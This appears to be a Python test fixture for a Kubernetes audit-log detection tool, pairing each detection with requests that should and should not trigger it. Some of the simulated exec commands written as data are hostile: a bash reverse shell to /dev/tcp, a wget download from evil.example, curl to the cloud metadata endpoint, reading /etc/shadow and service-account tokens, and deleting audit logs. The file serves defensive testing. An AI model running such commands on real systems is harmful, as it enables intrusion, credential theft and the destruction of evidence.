"""For every detection what fires it, and what looks alike and must not: each from an address of its own.

``fires`` and ``quiet`` write requests into a trail; the address tells which detection they are for.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from typing import Any, NamedTuple

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from demarc.testing.audit import KUBECTL, KUBELET, MANAGER, AuditTrail, Who, account

Write = Callable[[AuditTrail, str], None]
CLUSTER_ADMIN = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}
EVERYBODY = [{"kind": "Group", "name": "system:authenticated"}]
TEAM = [{"kind": "Group", "name": "developers"}]


class Case(NamedTuple):
    """What fires a detection, and its look-alike."""

    fires: Write
    quiet: Write


def person(address: str, **more: Any) -> Who:
    return Who(f"person-{address}", address=address, groups=("people",), grant="people", **more)


def robot(address: str, agent: str = "robot/1.0", namespace: str = "shop", **more: Any) -> Who:
    return account(namespace, f"robot-{address.replace('.', '-')}", address=address, agent=agent, **more)


def nobody(address: str, agent: str = "curl/8.0") -> Who:
    return Who("system:anonymous", address=address, agent=agent, groups=("system:unauthenticated",), grant="open")


def node(address: str, agent: str = KUBELET) -> Who:
    return Who(f"system:node:{address}", address=address, agent=agent, groups=("system:nodes",))


def controller(address: str, name: str = "daemon-set-controller") -> Who:
    return account("kube-system", name, address=address, agent=MANAGER)


def does(verb: str, resource: str, name: str = "x", *, who: Callable[..., Who] = person, **more: Any) -> Write:
    """One request."""

    def write(trail: AuditTrail, address: str) -> None:
        trail.ask(who(address), verb, resource, name, **{"at": 1000.0, "namespace": "shop", **more})

    return write


def pod(body: dict[str, Any], resource: str = "pods", who: Callable[..., Who] = person) -> Write:
    return does("create", resource, who=who, body={"spec": body})


def container(**more: Any) -> dict[str, Any]:
    return {"containers": [{"name": "c", "image": "registry.example/app:1", **more}]}


def command(*words: str) -> Write:
    return does("get", "pods", sub="exec", code=101, command=words)


def role(*rules: dict[str, Any]) -> Write:
    return does("create", "clusterroles", namespace="", body={"rules": list(rules)})


def binding(role_name: str, subjects: list[dict[str, str]], who: Callable[..., Who] = person, **more: Any) -> Write:
    body = {"roleRef": {**CLUSTER_ADMIN, "name": role_name}, "subjects": subjects}
    return does("create", "clusterrolebindings", namespace="", body=body, who=who, **more)


def many(times: int, write: Callable[[AuditTrail, str, int], object]) -> Write:
    def writes(trail: AuditTrail, address: str) -> None:
        for number in range(times):
            write(trail, address, number)

    return writes


def noted(key: str, value: str, verb: str = "create") -> Write:
    return does(verb, "pods", annotations={key: value}, body={"spec": container()})


def both(*writes: Write) -> Write:
    def write(trail: AuditTrail, address: str) -> None:
        for one in writes:
            one(trail, address)

    return write


def _at_home(trail: AuditTrail, who: Who, at: float = 10.0) -> None:
    trail.ask(who, "get", "configmaps", "c", at=at, namespace="shop")


def _elsewhere(address: str, agent: str, **more: Any) -> tuple[Who, Who]:
    """The same identity at home, far from ``address``, and there."""
    home = robot(address, **more)
    here = home.at(address, agent)
    home.address = "10.8.0.1"
    return home, here


def _new_place(agent: str) -> Write:
    def write(trail: AuditTrail, address: str) -> None:
        home, here = _elsewhere(address, agent)
        _at_home(trail, home)
        trail.ask(here, "get", "secrets", "s", at=1000, namespace="shop", level="Metadata")

    return write


def _other_program(agent: str) -> Write:
    def write(trail: AuditTrail, address: str) -> None:
        who = robot(address)
        _at_home(trail, who)
        trail.ask(who.at(address, agent), "list", "secrets", at=1000, namespace="shop", level="Metadata")

    return write


def _two_places(agent: str) -> Write:
    def write(trail: AuditTrail, address: str) -> None:
        home, here = _elsewhere(address, agent, credential=f"JTI={address}")
        _at_home(trail, home)
        trail.ask(here, "get", "configmaps", "c", at=1000, namespace="shop")

    return write


def _outlives(after: float) -> Write:
    def write(trail: AuditTrail, address: str) -> None:
        who = robot(address, pod=f"pod-{address}")
        used = trail.ask(who, "get", "configmaps", "c", at=10, namespace="shop")
        uid = next(event for event in trail.events if event["auditID"] == used)["user"]["extra"][
            "authentication.kubernetes.io/pod-uid"
        ][0]
        trail.ask(controller("10.0.250.1"), "delete", "pods", f"pod-{address}", at=20, namespace="shop")
        trail.events[-1]["objectRef"]["uid"] = uid
        trail.ask(who, "get", "configmaps", "c", at=20 + after, namespace="shop")

    return write


def _burst(names: int) -> Write:
    return many(
        20,
        lambda trail, address, number: (
            trail.ask(
                person(address),
                "get",
                "secrets",
                f"s{number % names}",
                at=1000 + number,
                namespace="shop",
                level="Metadata",
            )
            and None
        ),
    )


def _refusals(times: int) -> Write:
    return many(
        times,
        lambda trail, address, number: (
            trail.ask(person(address), "get", "pods", f"p{number}", at=1000 + number, namespace="shop", code=403)
            and None
        ),
    )


def _paths(times: int) -> Write:
    return many(
        times,
        lambda trail, address, number: (
            trail.ask(nobody(address), "get", path=f"/api/v{number}", at=1000 + number, code=403, level="Metadata")
            and None
        ),
    )


def _kinds(kinds: int) -> Write:
    return many(
        10,
        lambda trail, address, number: (
            trail.ask(person(address), "list", f"kind{number % kinds}s", at=1020 + number, namespace="shop") and None
        ),
    )


def _changed_image(first: str, second: str) -> Write:
    def write(trail: AuditTrail, address: str) -> None:
        for number, digest in enumerate((first, second)):
            status = {"name": "c", "image": f"registry.example/{address}:1", "imageID": f"x@sha256:{digest}"}
            trail.ask(
                node(address),
                "patch",
                "pods",
                "p",
                at=1000 + number,
                namespace="shop",
                sub="status",
                body={"status": {"containerStatuses": [status]}},
            )

    return write


def _patched_by(second: Callable[..., Who] | None, body: dict[str, Any]) -> Write:
    def write(trail: AuditTrail, address: str) -> None:
        owner = robot("10.8.0.2") if second else person(address)
        trail.ask(owner, "create", "deployments", f"d-{address}", at=10, namespace="shop", body={"spec": {}})
        who = second(address) if second else owner
        trail.ask(who, "patch", "deployments", f"d-{address}", at=1000, namespace="shop", body=body)

    return write


def _template(containers: list[dict[str, Any]], order: list[str]) -> dict[str, Any]:
    spec = {"$setElementOrder/containers": [{"name": name} for name in order], "containers": containers}
    return {"spec": {"template": {"spec": spec}}}


def _rights_then_pod(pause: float) -> Write:
    def write(trail: AuditTrail, address: str) -> None:
        binding("view", TEAM, at=1000.0)(trail, address)
        pod(container())(trail, address)
        trail.events[-1]["requestReceivedTimestamp"] = trail.events[-1]["requestReceivedTimestamp"].replace(
            "T00:16:40", f"T00:{16 + int(pause // 60):02d}:50"
        )

    return write


def _request(name: str) -> dict[str, Any]:
    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)])
    asked = x509.CertificateSigningRequestBuilder().subject_name(subject).sign(key, hashes.SHA256())
    return {"spec": {"request": base64.b64encode(asked.public_bytes(serialization.Encoding.PEM)).decode()}}


def _node_certificate(*, known: bool) -> Write:
    def write(trail: AuditTrail, address: str) -> None:
        wanted = f"system:node:victim-{address}"
        if known:
            trail.ask(Who(wanted, address="10.8.0.3", agent=KUBELET), "get", "nodes", "n", at=10)
        join = Who("system:bootstrap:abcdef", address=address, agent=KUBELET)
        trail.ask(join, "create", "certificatesigningrequests", "csr", at=1000, body=_request(wanted))

    return write


def _later_used(*, token: bool) -> Write:
    def write(trail: AuditTrail, address: str) -> None:
        name = f"s-{address.replace('.', '-')}"
        trail.ask(person(address), "create", "secrets", name, at=1000, namespace="shop", level="Metadata")
        if token:
            used = account("shop", "late", address="10.8.0.4", agent="late/1", secret=name)
            trail.ask(used, "get", "configmaps", "c", at=2000, namespace="shop")

    return write


def _impersonates(user: str, groups: tuple[str, ...] = ()) -> Write:
    return does("list", "pods", "", impersonate=user, impersonate_groups=groups)


def _node_reads(agent: str) -> Write:
    def write(trail: AuditTrail, address: str) -> None:
        trail.ask(node(address), "get", "secrets", "s", at=10, namespace="shop", level="Metadata")
        if agent != KUBELET:
            trail.ask(node(address, agent), "list", "secrets", at=1000, namespace="shop", level="Metadata")

    return write


OPEN = {"spec": {"type": "LoadBalancer"}}
SECRETS: dict[str, Any] = {"namespace": "shop", "level": "Metadata"}

CASES: dict[str, Case] = {
    "anon-allowed": Case(
        does("list", "pods", "", who=nobody), does("get", "", "", who=nobody, path="/readyz?verbose", namespace="")
    ),
    "anon-write-pod": Case(does("create", "pods", who=nobody, code=403), does("get", "pods", who=nobody)),
    "anon-enum": Case(_paths(6), _paths(2)),
    "anon-binding": Case(binding("view", EVERYBODY), binding("view", TEAM)),
    "anon-exec-review": Case(
        does("create", "selfsubjectrulesreviews", "", who=nobody, code=403),
        does("create", "selfsubjectrulesreviews", ""),
    ),
    "many-403-public": Case(_refusals(25), _refusals(25)),
    "unauth-scan": Case(does("list", "pods", "", code=401), does("list", "pods", "", code=403)),
    "public-ip-system-principal": Case(does("list", "pods", "", who=robot), does("list", "pods", "", who=robot)),
    "tor-or-ioc-ip": Case(does("list", "pods", ""), does("list", "pods", "")),
    "disallowed-user": Case(does("list", "pods", ""), does("list", "pods", "")),
    "jti-two-places": Case(_two_places("curl/8.0"), _two_places("robot/1.0")),
    "token-outlives-pod": Case(_outlives(4000), _outlives(30)),
    "legacy-token-used": Case(
        does("list", "pods", "", who=lambda a: robot(a, secret="t")),
        does("list", "pods", "", who=robot),
    ),
    "managed-identity-odd": Case(
        does("get", "secrets", who=lambda a: Who("masterclient", address=a), level="Metadata"),
        does("get", "pods", who=lambda a: Who("masterclient", address=a)),
    ),
    "tool-ua": Case(does("list", "pods", "", who=lambda a: nobody(a, "kube-hunter/0.6")), does("list", "pods", "")),
    "unusual-ua-secret": Case(_other_program("curl/8.0"), _other_program("robot/2.0")),
    "secret-unusual-place": Case(_new_place("curl/8.0"), _new_place("robot/1.0")),
    "secrets-list-all": Case(
        does("list", "secrets", "", namespace="", level="Metadata"), does("list", "secrets", "", **SECRETS)
    ),
    "secrets-list-sensitive-ns": Case(
        does("list", "secrets", "", namespace="kube-system", level="Metadata"), does("list", "secrets", "", **SECRETS)
    ),
    "secrets-burst": Case(_burst(20), _burst(3)),
    "secret-denied": Case(does("get", "secrets", code=403, level="Metadata"), does("get", "secrets", level="Metadata")),
    "secret-get-ok": Case(does("get", "secrets", level="Metadata"), does("get", "secrets", who=node, level="Metadata")),
    "secret-by-node": Case(_node_reads("kubectl/v1.33"), _node_reads(KUBELET)),
    "secret-modified": Case(
        does("update", "secrets", level="Metadata"), does("update", "secrets", query="dryRun=All", level="Metadata")
    ),
    "configmap-creds": Case(
        does("create", "configmaps", body={"data": {"admin.kubeconfig": "x"}}),
        does("create", "configmaps", body={"data": {"token-lifetime.txt": "1h", "ca.crt": "x"}}),
    ),
    "sa-token-secret": Case(_later_used(token=True), _later_used(token=False)),
    "arc-proxy-secrets": Case(
        does("get", "secrets", who=lambda a: robot(a, namespace="azure-arc"), level="Metadata"),
        does("get", "secrets", who=lambda a: robot(a, namespace="azure-arc"), namespace="azure-arc", level="Metadata"),
    ),
    "tokenrequest": Case(
        does("create", "serviceaccounts", sub="token", issued="JTI=1"),
        does("create", "serviceaccounts", who=node, sub="token", issued="JTI=2"),
    ),
    "csr": Case(
        does("update", "certificatesigningrequests", sub="approval", namespace=""),
        does("create", "certificatesigningrequests", who=node, namespace=""),
    ),
    "csr-bootstrap-node": Case(_node_certificate(known=True), _node_certificate(known=False)),
    "aws-auth": Case(
        does("patch", "configmaps", "aws-auth", namespace="kube-system"),
        does("get", "configmaps", "aws-auth", namespace="kube-system"),
    ),
    "impersonation": Case(_impersonates("x", ("system:masters",)), _impersonates("ben@example.com")),
    "exec-pod": Case(command("ls"), does("create", "pods", sub="exec", code=403)),
    "exec-kube-system": Case(does("get", "pods", sub="exec", code=101, namespace="kube-system"), command("ls")),
    "exec-token-read": Case(
        command("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"), command("cat", "/app/config.yaml")
    ),
    "exec-imds": Case(command("curl", "http://169.254.169.254/latest"), command("curl", "http://169.254.1.1/")),
    "exec-revshell": Case(command("sh", "-c", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"), command("rsync", "-e", "ssh")),
    "exec-download": Case(command("wget", "https://evil.example/x"), command("curl", "http://localhost:8080/health")),
    "exec-sensitive-files": Case(command("cat", "/etc/shadow"), command("cat", "/etc/hosts")),
    "kubectl-cp": Case(command("tar", "cf", "-", "/data"), command("tar", "xf", "-")),
    "port-forward": Case(does("get", "pods", sub="portforward", code=101), does("get", "pods", sub="log")),
    "ephemeral": Case(does("patch", "pods", sub="ephemeralcontainers"), does("patch", "pods", sub="status")),
    "node-proxy": Case(
        does("get", "nodes", sub="proxy", path="/api/v1/nodes/x/proxy/runningpods/", namespace=""),
        does("get", "nodes", sub="proxy", path="/api/v1/nodes/x/proxy/metrics/cadvisor", namespace=""),
    ),
    "pod-service-proxy": Case(does("get", "services", sub="proxy"), does("get", "services")),
    "priv-pod": Case(
        pod(container(securityContext={"privileged": True})),
        pod(container(securityContext={"privileged": True}), who=controller),
    ),
    "caps": Case(
        pod(container(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}})),
        pod(container(securityContext={"capabilities": {"add": ["NET_BIND_SERVICE"]}})),
    ),
    "hostpath": Case(
        pod({**container(), "volumes": [{"hostPath": {"type": "", "path": "/var/lib/kubelet"}}]}),
        pod({**container(), "volumes": [{"hostPath": {"path": "/data/app"}}]}),
    ),
    "hostnet": Case(pod({**container(), "hostNetwork": True}), pod({**container(), "hostNetwork": False})),
    "hostpid": Case(pod({**container(), "hostPID": True}), pod({**container(), "hostPID": False})),
    "hostipc": Case(pod({**container(), "hostIPC": True}), pod({**container(), "hostIPC": False})),
    "pod-in-system-ns": Case(
        does("create", "pods", namespace="kube-system"), does("create", "pods", namespace="kube-system", who=controller)
    ),
    "pod-in-default-ns": Case(does("create", "pods", namespace="default"), does("create", "pods")),
    "disallowed-image": Case(
        pod({"containers": [{"name": "c", "image": "docker.io/x/xmrig:6"}]}),
        pod({"containers": [{"name": "c", "image": "docker.io/x/monerostat-exporter:6"}]}),
    ),
    "image-retag": Case(_changed_image("a" * 64, "b" * 64), _changed_image("a" * 64, "a" * 64)),
    "controller-sa-pod": Case(
        does(
            "create",
            "pods",
            namespace="kube-system",
            body={"spec": {**container(), "serviceAccountName": "clusterrole-aggregation-controller"}},
        ),
        does(
            "create",
            "deployments",
            namespace="kube-system",
            body={"spec": {**container(), "serviceAccountName": "aws-load-balancer-controller"}},
        ),
    ),
    "pod-with-strong-sa": Case(
        pod({**container(), "serviceAccountName": "strong"}), pod({**container(), "serviceAccountName": "weak"})
    ),
    "create-forbidden": Case(
        does("create", "pods", code=403), does("create", "selfsubjectaccessreviews", "", code=403)
    ),
    "daemonset-new": Case(does("create", "daemonsets"), does("patch", "daemonsets")),
    "system-lookalike": Case(
        does("create", "daemonsets", "kube-controller", namespace="kube-system"),
        does("create", "deployments", "kube-state-metrics", namespace="monitoring"),
    ),
    "cronjob": Case(does("create", "cronjobs"), does("create", "jobs", who=controller)),
    "workload-patched": Case(
        _patched_by(person, _template([{"name": "a", "image": "b"}], ["a"])),
        _patched_by(None, _template([{"name": "a", "image": "b"}], ["a"])),
    ),
    "sidecar": Case(
        does("patch", "deployments", body=_template([{"name": "b", "image": "c", "command": ["x"]}], ["a", "b"])),
        does("patch", "deployments", body=_template([{"name": "a", "image": "c"}], ["a", "b"])),
    ),
    "rbac-then-workload": Case(_rights_then_pod(60), _rights_then_pod(900)),
    "psa-violation": Case(
        noted("pod-security.kubernetes.io/audit-violations", "would violate"),
        noted("pod-security.kubernetes.io/enforce-policy", "baseline:latest"),
    ),
    "vap-failure": Case(
        noted("validation.policy.admission.k8s.io/validation_failure", "[]"), noted("x.policy.example/kept", "yes")
    ),
    "imagepolicy-failopen": Case(
        noted("failed-open.validating.webhook.admission.k8s.io/round_0_index_0", "w"),
        noted("mutation.webhook.admission.k8s.io/round_0_index_0", '{"webhook":"w","mutated":false}'),
    ),
    "webhook-changed": Case(
        does("create", "mutatingwebhookconfigurations", namespace=""),
        does("get", "mutatingwebhookconfigurations", namespace=""),
    ),
    "webhook-mutated": Case(
        noted("mutation.webhook.admission.k8s.io/round_0_index_0", '{"webhook":"w","mutated":true}'),
        noted("mutation.webhook.admission.k8s.io/round_0_index_0", '{"webhook":"w","mutated":false}'),
    ),
    "policy-deleted": Case(does("delete", "networkpolicies"), does("patch", "networkpolicies")),
    "bind-cluster-admin": Case(binding("cluster-admin", TEAM), binding("cluster-admin", TEAM, query="dryRun=All")),
    "binding-changed": Case(binding("view", TEAM), binding("view", TEAM, who=controller)),
    "role-wildcard": Case(
        role({"apiGroups": [""], "resources": ["*"], "verbs": ["get"]}),
        role({"apiGroups": ["*"], "resources": ["pods"], "verbs": ["get"]}),
    ),
    "role-exec": Case(
        role({"resources": ["pods/exec"], "verbs": ["create"]}), role({"resources": ["pods/log"], "verbs": ["get"]})
    ),
    "role-nodeproxy": Case(
        role({"resources": ["nodes/proxy"], "verbs": ["get"]}), role({"resources": ["nodes/metrics"], "verbs": ["get"]})
    ),
    "role-escalate": Case(
        role({"resources": ["roles"], "verbs": ["bind"]}), role({"resources": ["pods/binding"], "verbs": ["create"]})
    ),
    "role-write": Case(
        role({"resources": ["pods"], "verbs": ["delete"]}), role({"resources": ["pods"], "verbs": ["get"]})
    ),
    "system-role-changed": Case(
        does("update", "clusterroles", "system:node", namespace=""),
        does("update", "clusterroles", "system:node", namespace="", who=lambda a: Who("system:apiserver", address=a)),
    ),
    "sa-rbac-write": Case(binding("view", TEAM, who=robot), binding("view", TEAM)),
    "sa-created-kube-ns": Case(
        does("create", "serviceaccounts", namespace="kube-system"), does("create", "serviceaccounts")
    ),
    "default-sa-admin": Case(
        binding("cluster-admin", [{"kind": "ServiceAccount", "name": "default", "namespace": "shop"}]),
        binding("view", [{"kind": "ServiceAccount", "name": "default", "namespace": "shop"}]),
    ),
    "self-review": Case(
        does("create", "selfsubjectrulesreviews", "", who=robot), does("create", "selfsubjectrulesreviews", "")
    ),
    "multi-discovery": Case(_kinds(10), _kinds(3)),
    "nodeport-lb": Case(
        does("create", "services", body=OPEN), does("create", "services", body={"spec": {"type": "ClusterIP"}})
    ),
    "ingress-no-tls": Case(
        does("create", "ingresses", body={"spec": {"rules": []}}),
        does("create", "ingresses", body={"spec": {"tls": [{"secretName": "t"}]}}),
    ),
    "dashboard-exposed": Case(
        does("patch", "services", "kubernetes-dashboard", body=OPEN),
        does("patch", "services", "kubernetes-dashboard", body={"spec": {"type": "ClusterIP"}}),
    ),
    "coredns": Case(
        does("update", "configmaps", "coredns", namespace="kube-system"),
        does("get", "configmaps", "coredns", namespace="kube-system"),
    ),
    "events-deleted": Case(does("deletecollection", "events", ""), does("create", "events")),
    "audit-config-gone": Case(command("rm", "-rf", "/var/log/kubernetes/audit"), command("rm", "-rf", "/tmp/x")),
    "deploy-deleted": Case(
        does("delete", "namespaces", namespace=""), does("delete", "namespaces", namespace="", who=controller)
    ),
    "nodes-deleted": Case(
        does("patch", "nodes", namespace="", body={"spec": {"unschedulable": True}}),
        does("patch", "nodes", namespace="", body={"metadata": {"labels": {"a": "b"}}}),
    ),
}
"""Every detection but the one that reads the cloud's trail only."""

KUBECTL_AGENT = KUBECTL
PUBLIC = {"many-403-public", "public-ip-system-principal"}
"""These hang on the address itself: what fires comes from a public one, what is quiet from a private one."""


def addresses(number: int, name: str) -> tuple[str, str]:
    """Where what fires and what is quiet come from."""
    fires = f"203.0.{number}.1" if name in PUBLIC else f"10.9.{number}.1"
    return fires, f"10.9.{number}.2"


def trail() -> AuditTrail:
    """All cases in one trail."""
    made = AuditTrail()
    for number, (name, case) in enumerate(CASES.items()):
        fires, quiet = addresses(number, name)
        case.fires(made, fires)
        case.quiet(made, quiet)
    return made
